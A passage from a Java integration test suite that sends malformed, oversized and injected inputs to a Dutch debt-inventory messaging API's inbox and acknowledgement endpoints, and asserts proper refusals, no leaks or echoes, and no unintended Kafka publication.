                "{\"ids\":[\"" + TO_A + "\"]}", 200, null).withHeader(h("Knooppunt-Participant", B)));
        cases.add(ack("no token", null, "{\"ids\":[\"" + TO_A + "\"]}", 401, "unauthorized"));
        cases.add(ack("empty list", a, "{\"ids\":[]}", 400, "bad-request"));
        cases.add(ack("no ids", a, "{}", 400, "bad-request"));
        cases.add(ack("ids not an array", a, "{\"ids\":\"" + TO_A + "\"}", 400, "bad-request"));
        cases.add(ack("ids an object", a, "{\"ids\":{\"0\":\"" + TO_A + "\"}}", 400, "bad-request"));
        cases.add(ack("body an array", a, "[\"" + TO_A + "\"]", 400, "bad-request"));
        cases.add(ack("body null", a, "null", 400, "bad-request"));
        cases.add(ack("501 ids", a, "{\"ids\":" + JSON.valueToTree(java.util.stream.IntStream.range(0, 501)
                .mapToObj(i -> UUID.randomUUID().toString()).toList()) + "}", 400, "bad-request"));
        cases.add(ack("duplicate ids", a, "{\"ids\":[\"" + TO_A + "\",\"" + TO_A + "\"]}", 400, "bad-request"));
        cases.add(ack("duplicate ids in two cases", a, "{\"ids\":[\"" + TO_A + "\",\""
                + TO_A.toUpperCase(Locale.ROOT) + "\"]}", 400, "bad-request"));
        cases.add(ack("number as id", a, "{\"ids\":[1]}", 400, "bad-request"));
        cases.add(ack("null as id", a, "{\"ids\":[null]}", 400, "bad-request"));
        cases.add(ack("nested array as id", a, "{\"ids\":[[\"" + TO_A + "\"]]}", 400, "bad-request"));
        cases.add(ack("unknown field", a, "{\"ids\":[\"" + TO_A + "\"],\"all\":true}", 400, "unknown-field"));
        cases.add(ack("malformed JSON", a, "{\"ids\":[", 400, "malformed-json"));
        cases.add(ack("ids nested 100 deep", a, "{\"ids\":" + "[".repeat(100) + "]".repeat(100) + "}", 400,
                "json-too-complex"));
        for (int i = 0; i < INJECTIONS.size(); i++) {
            String value = INJECTIONS.get(i);
            String n = "#" + i + " " + printable(value);
            String enc = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
            ObjectNode body = JSON.createObjectNode();
            body.putArray("ids").add(TO_A).add(value);
            cases.add(ack(n + " as id to acknowledge in bulk", a, body.toString(), 400, "bad-request")
                    .withSecrets(List.of(value)));
            cases.add(get("batch pull", n + " as include", "/api/v1/inbox?include=" + enc, a, 400, "bad-request")
                    .withSecrets(List.of(value)));
        }
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x")) {
            cases.add(new Case("batch pull", "bulk acknowledgement as " + type, "POST", acks, hs(auth(a), ct(type)),
                    ("{\"ids\":[\"" + TO_A + "\"]}").getBytes(StandardCharsets.UTF_8), null, false, 415,
                    "unsupported-media-type", Expect.REFUSED, List.of(), null));
        }
        cases.add(new Case("batch pull", "bulk acknowledgement without content type", "POST", acks, hs(auth(a)),
                ("{\"ids\":[\"" + TO_A + "\"]}").getBytes(StandardCharsets.UTF_8), null, false, 415,
                "unsupported-media-type", Expect.REFUSED, List.of(), null));
    }

    private static Case ack(String name, String token, String body, int status, String problem) {
        List<String[]> headers = new ArrayList<>();
        if (token != null) {
            headers.add(auth(token));
        }
        headers.add(ct("application/json"));
        return new Case("batch pull", name, "POST", "/api/v1/inbox/acknowledgements", headers,
                body.getBytes(StandardCharsets.UTF_8), null, false, status, problem,
                status < 300 ? Expect.OK : Expect.REFUSED, List.of(), null);
    }

    // ---------------------------------------------------------------- running a row

    private static void run(Case c) {
        if (c.before() != null) {
            c.before().run();
        }
        long published = published();
        int seen = validator.records.size();
        List<String[]> headers = new ArrayList<>(c.headers());
        RawHttp.Response r = RawHttp.send(HostileProfile.PORT, c.method(), c.path(), headers, c.body(),
                c.declaredLength(), c.chunked());
        String where = c.category() + ": " + c.name() + " answered " + r.status() + " " + abbreviate(r.body());
        assertEquals(c.status(), r.status(), where);
        for (String leak : LEAKS) {
            assertFalse(r.body().contains(leak), where + " leaks '" + leak + "'");
        }
        for (String secret : c.secrets()) {
            assertFalse(r.body().contains(secret), where + " echoes the request value");
            assertFalse(r.body().contains(JSON.valueToTree(secret).toString().replaceAll("^\"|\"$", "")),
                    where + " echoes the request value (escaped)");
        }
        assertNull(r.header("set-cookie"), where + " sets a cookie");
        assertNull(r.header("x-injected"), where + " has an injected header");
        switch (c.expect()) {
            case REFUSED, JUDGED -> {
                assertProblem(r, c, where);
                if (c.expect() == Expect.REFUSED) {
                    assertEquals(published, published(), where + ": a refused submission reached Kafka");
                }
            }
            case ACCEPTED -> {
                assertTrue(r.header("content-type").startsWith("application/json"), where);
                Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> validator.records.size() > seen);
                for (String record : validator.records.subList(seen, validator.records.size())) {
                    for (String secret : c.secrets()) {
                        assertFalse(record.contains(secret), where + ": a request value is in clear on Kafka");
                    }
                    assertFalse(record.contains("toelichting"), where + ": payload in clear on Kafka");
                }
            }
            case OK -> {
                if (c.status() != 204) {
                    assertTrue(r.header("content-type").startsWith("application/json"), where);
                }
            }
        }
    }

    private static void assertProblem(RawHttp.Response r, Case c, String where) {
        String type = r.header("content-type");
        assertNotNull(type, where + ": no content type");
        assertTrue(type.startsWith("application/problem+json"), where + ": content type " + type);
        JsonNode problem;
        try {
            problem = JSON.readTree(r.body());
        } catch (Exception e) {
            throw new AssertionError(where + ": the body is not JSON");
        }
        assertTrue(problem.path("type").asText().startsWith("https://knooppunt.nl/problems/"), where);
        assertFalse(problem.path("title").asText().isBlank(), where + ": no title");
        assertEquals(c.status(), problem.path("status").asInt(), where + ": status in the body");
        if (c.problem() != null) {
            assertEquals("https://knooppunt.nl/problems/" + c.problem(), problem.path("type").asText(), where);
        }
        if (c.status() == 401) {
            assertEquals("Bearer", r.header("www-authenticate"), where);
        }
        if (c.status() == 503 || c.status() == 429) {
            assertNotNull(r.header("retry-after"), where);
        }
    }

    // ---------------------------------------------------------------- building rows

    private static Case submit(String category, String name, String token, String contentType, byte[] body,
            int status, String problem) {
        List<String[]> headers = new ArrayList<>();
        if (token != null) {
            headers.add(auth(token));
        }
        if (contentType != null) {
            headers.add(ct(contentType));
        }
        return new Case(category, name, "POST", "/api/v1/messages", headers, body, null, false, status, problem,
                status == 201 ? Expect.ACCEPTED : Expect.REFUSED, List.of(), null);
    }

    private static Case get(String category, String name, String path, String token, int status, String problem) {
        List<String[]> headers = new ArrayList<>();
        if (token != null) {
            headers.add(auth(token));
        }
        return new Case(category, name, "GET", path, headers, null, null, false, status, problem,
                status < 300 ? Expect.OK : Expect.REFUSED, List.of(), null);
    }

    private static Case attachment(String name, String fileName, String mediaType, String content, int status) {
        ObjectNode body = valid();
        ((ObjectNode) body.get("payload")).putArray("bijlagen").addObject().put("soort", "overig")
                .put("naam", fileName).put("mediaType", mediaType).put("inhoud", content);
        return submit("attachment", name, client("client-a"), "application/json", bytes(body), status,
                status == 422 ? "standard-violation" : null).expecting(status == 422 ? Expect.JUDGED : Expect.ACCEPTED);
    }

    /** A valid saldoverzoek from A to B: the standard's own example. */
    static ObjectNode valid() {
        ObjectNode body = JSON.createObjectNode();
        body.put("module", "schuldinventarisatie").put("type", "saldoverzoek").put("recipient", B);
        body.set("payload", Catalogue.standard().messageType("schuldinventarisatie", "saldoverzoek").orElseThrow()
                .example().deepCopy());
        return body;
    }

    private static ObjectNode answer(String inReplyTo) {
        ObjectNode body = JSON.createObjectNode();
        body.put("module", "schuldinventarisatie").put("type", "saldoverzoek-antwoord").put("recipient", A)
                .put("inReplyTo", inReplyTo);
        body.set("payload", Catalogue.standard().messageType("schuldinventarisatie", "saldoverzoek-antwoord")
                .orElseThrow().example().deepCopy());
        return body;
    }

    static String client(String clientId) {
        return Tokens.client(clientId);
    }

    static List<String[]> hs(String[]... all) {
        return List.of(all);
    }

    static String[] auth(String token) {
        return h("Authorization", "Bearer " + token);
    }

    static String[] ct(String type) {
        return h("Content-Type", type);
    }

    static String[] h(String name, String value) {
        return new String[] { name, value };
    }

    static byte[] bytes(JsonNode node) {
        return node.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] padded(int size) {
        String start = "{\"module\":\"schuldinventarisatie\",\"payload\":{\"toelichting\":\"";
        return (start + "x".repeat(size - start.length() - 3) + "\"}}").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(String before, byte[] middle, String after) {
        byte[] a = before.getBytes(StandardCharsets.UTF_8);
        byte[] c = after.getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[a.length + middle.length + c.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(middle, 0, all, a.length, middle.length);
        System.arraycopy(c, 0, all, a.length + middle.length, c.length);
        return all;
    }

    private static String printable(String value) {
        StringBuilder out = new StringBuilder();
        value.codePoints().limit(40).forEach(cp -> out.append(cp >= 0x20 && cp < 0x7F ? Character.toString(cp)
                : String.format(Locale.ROOT, "\\u%04X", cp)));
        return out.toString();
    }

    private static String abbreviate(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "..." : body;
    }

    // ---------------------------------------------------------------- Kafka

    private static synchronized void start() {
        if (validator != null) {
            return;
        }
        String bootstrap = ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class);
        Properties admin = new Properties();
        admin.put(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrap);
        try (Admin client = Admin.create(admin)) {
            Set<String> existing = client.listTopics().names().get();
            List<NewTopic> missing = Stream.of(Topics.SUBMISSIONS, Topics.VERDICTS).filter(t -> !existing.contains(t))
                    .map(t -> new NewTopic(t, 1, (short) 1)).toList();
            client.createTopics(missing).all().get();
        } catch (Exception e) {
            if (!(e.getCause() instanceof org.apache.kafka.common.errors.TopicExistsException)) {
                throw new IllegalStateException(e);
            }
        }
        Properties c = new Properties();
        c.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrap);
        c.put(ConsumerConfig.KEY_DESERIALIZER_CLASS_CONFIG, ByteArrayDeserializer.class.getName());
        c.put(ConsumerConfig.VALUE_DESERIALIZER_CLASS_CONFIG, ByteArrayDeserializer.class.getName());
        offsets = new KafkaConsumer<>(c);
        partitions = offsets.partitionsFor(Topics.SUBMISSIONS).stream()
                .map(p -> new TopicPartition(p.topic(), p.partition())).toList();
        validator = new FakeValidator(bootstrap,
                Path.of(ConfigProvider.getConfig().getValue("knooppunt.secrets-dir", String.class)));
        Awaitility.await().atMost(Duration.ofSeconds(60)).until(() -> RawHttp.send(HostileProfile.PORT, "GET",
                "/q/health/ready", List.of(), null, null, false).status() == 200);
    }

    private static long published() {
        return offsets.endOffsets(partitions).values().stream().mapToLong(Long::longValue).sum();
    }

    @AfterAll
    static void stop() throws InterruptedException {
        if (validator != null) {
            validator.close();
            offsets.close();
            validator = null;
        }
    }
}
